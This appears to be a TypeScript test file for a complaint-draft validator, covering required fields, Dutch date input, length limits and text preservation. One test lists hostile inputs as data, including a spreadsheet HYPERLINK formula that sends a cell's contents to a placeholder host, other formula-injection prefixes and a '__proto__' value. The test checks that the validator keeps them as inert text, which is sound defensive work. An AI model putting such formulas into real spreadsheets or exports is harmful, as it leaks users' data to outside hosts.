import fc from 'fast-check';
import { checkDraft } from '../../../src/procedure/complaint/check/checkDraft';
import { toDay } from '../../../src/procedure/calendar/day';
import { draftFields } from '../../../src/procedure/complaint/fields';
import type { Draft, Intake, Issue } from '../../../src/procedure/complaint/draft';
import type { DraftField } from '../../../src/procedure/complaint/fields';
import { aDraft } from '../../fixtures/aDraft';
import { anyText } from './arbitraries';

const today = toDay('2026-07-01');
const holidays = [toDay('2026-07-09')];

const check = (changes: Draft = {}) => checkDraft(aDraft(changes), { today, holidays });

function issuesOf(changes: Draft): Issue[] {
  const checked = check(changes);
  return checked.ok ? [] : checked.issues;
}

function intakeOf(changes: Draft): Intake {
  const checked = check(changes);
  if (!checked.ok) throw new Error(JSON.stringify(checked.issues));
  return checked.intake;
}

const textFields = draftFields.filter(
  (field) => !['receivedOn', 'callbackOn', 'channel', 'reachBy', 'severity', 'summary'].includes(field),
);

describe('the check of a draft', () => {
  it('reads dates and choices and keeps the rest', () => {
    expect(intakeOf({ receivedOn: 'gisteren', callbackOn: '8 juli', severity: 'serious' })).toEqual({
      ...aDraft(),
      receivedOn: '2026-06-30',
      callbackOn: '2026-07-08',
      severity: 'serious',
    });
  });

  it('asks for everything that the procedure requires, in the order of the form', () => {
    const checked = checkDraft({}, { today, holidays });
    const asked = checked.ok ? [] : checked.issues;
    expect(asked.map(({ code }) => code)).toEqual(asked.map(() => 'required'));
    expect(asked.map(({ field }) => field)).toEqual([
      'phone',
      'name',
      'address',
      'town',
      'category',
      'summary',
      'account',
      'employee',
      'department',
      'channel',
      'receivedOn',
      'takenBy',
      'promise',
      'followUpBy',
      'callbackOn',
      'severity',
    ]);
  });

  it.each<[string, Draft, string[]]>([
    ['letter', { phone: '' }, []],
    ['letter', { phone: '', address: '', town: '' }, ['address', 'town']],
    ['email', { phone: '', address: '', town: '', email: 'a@example.nl' }, []],
    ['email', { phone: '' }, ['email']],
    ['none', { phone: '', name: '', address: '', town: '' }, []],
    ['none', { phone: '', account: '' }, ['account']],
    ['phone', { phone: '', name: '' }, ['phone', 'name']],
    ['', { phone: '' }, ['phone']],
  ])('asks of a relation who is answered by %j with %j for %j', (reachBy, changes, asked) => {
    expect(issuesOf({ reachBy, ...changes })).toEqual(asked.map((field) => ({ field, code: 'required' })));
  });

  it.each(['postcode', 'email', 'relationNumber', 'preferredTime', 'remedy'] as const)(
    'lets %s be blank',
    (field) => {
      expect(intakeOf({ [field]: ' \t\n' })[field]).toBe('');
    },
  );

  it.each<[DraftField, string, Issue['code']]>([
    ['name', ' \u00a0\n ', 'required'],
    ['receivedOn', '29-02-2027', 'notADate'],
    ['receivedOn', 'binnenkort', 'notADate'],
    ['receivedOn', 'morgen', 'inTheFuture'],
    ['receivedOn', '31-12-1899', 'tooLongAgo'],
    ['receivedOn', '31-12-1999', 'tooLongAgo'],
    ['callbackOn', '31-04-2026', 'notADate'],
    ['callbackOn', '30-06-2026', 'beforeReceipt'],
    ['callbackOn', '03-07-2027', 'tooFarAhead'],
    ['reachBy', 'telefoon', 'notAChoice'],
    ['severity', 'Serious', 'notAChoice'],
    ['severity', 'toString', 'notAChoice'],
    ['account', 'bel\u0007', 'notAllowedHere'],
    ['account', 'nul\u0000', 'notAllowedHere'],
    ['account', 'verticale\u000btab', 'notAllowedHere'],
    ['name', 'half \ud83d teken', 'notAllowedHere'],
    ['name', 'geen teken \uffff', 'notAllowedHere'],
  ])('says of %s "%s": %s', (field, typed, code) => {
    expect(issuesOf({ [field]: typed })).toEqual([{ field, code }]);
  });

  it.each<[DraftField, string]>([
    ['receivedOn', '01-01-2000'],
    ['receivedOn', '01-07-2026'],
    ['callbackOn', '01-07-2026'],
    ['callbackOn', '02-07-2027'],
    ['callbackOn', '04-07-2026'],
    ['callbackOn', '09-07-2026'],
    ['summary', 'x'.repeat(80)],
    ['account', 'x'.repeat(32_767)],
    ['account', `x${'\n'.repeat(253)}x`],
    ['account', 'tab\ten \u007f en \u0085'],
  ])('accepts %s at its limit', (field, typed) => {
    expect(issuesOf({ [field]: typed })).toEqual([]);
  });

  it.each<[Issue, string]>([
    [{ field: 'summary', code: 'tooLong', limit: 80 }, 'x'.repeat(81)],
    [{ field: 'account', code: 'tooLong', limit: 32_767 }, 'x'.repeat(40_000)],
    [{ field: 'account', code: 'tooManyLines', limit: 253 }, 'x\r\n'.repeat(254) + 'x'],
    [{ field: 'name', code: 'tooLong', limit: 32_767 }, 'x'.repeat(32_768)],
  ])('refuses beyond a limit: %j', (issue, typed) => {
    expect(issuesOf({ [issue.field]: typed })).toEqual([issue]);
  });

  it('says one thing of a field at a time, and says it of every field', () => {
    expect(issuesOf({ callbackOn: '04-04-2026', town: '', severity: '' })).toEqual([
      { field: 'town', code: 'required' },
      { field: 'callbackOn', code: 'beforeReceipt' },
      { field: 'severity', code: 'required' },
    ]);
  });

  it.each([
    '=1+2',
    '=HYPERLINK("https://example.invalid/?x="&A2,"Klik hier")',
    '+31 6 12345678',
    '-kwaad-',
    '@SUM(1+9)',
    "'s avonds",
    '\tingesprongen',
    '0612345678',
    '51e7362012485952',
    '1-2',
    '_x000D_',
    '<b>&amp;</b>',
    '{"__proto__": 1}',
    'Yıldız Çelik 👩‍👩‍👧 ﷽ مرحبا',
    '  spaties vooraan en achteraan  ',
  ])('takes "%s" for the text it is', (typed) => {
    expect(intakeOf({ account: typed, name: typed, phone: typed })).toMatchObject({
      account: typed,
      name: typed,
      phone: typed,
    });
  });

  it('writes every line ending the one way that a cell knows', () => {
    expect(intakeOf({ account: 'een\r\ntwee\rdrie\nvier' }).account).toBe('een\ntwee\ndrie\nvier');
  });

  it('never loses text: what passes is what was typed', () => {
    fc.assert(
      fc.property(fc.constantFrom(...textFields), anyText({ maxLength: 60 }), (field, typed) => {
        const checked = check({ [field]: typed });
        if (!checked.ok) {
          expect(checked.issues.map((issue) => issue.field)).toEqual([field]);
        } else {
          const kept = typed.replaceAll('\r\n', '\n').replaceAll('\r', '\n');
          expect(checked.intake[field]).toBe(kept.trim() === '' ? '' : kept);
        }
      }),
    );
  });

  it('answers any draft with an intake or with issues, never with neither', () => {
    const anyDraft = fc.record(Object.fromEntries(draftFields.map((field) => [field, anyText()])), {
      requiredKeys: [],
    });
    fc.assert(
      fc.property(anyDraft, (draft) => {
        const checked = checkDraft(draft, { today, holidays });
        expect(checked.ok || checked.issues.length > 0).toBe(true);
      }),
    );
  });
});
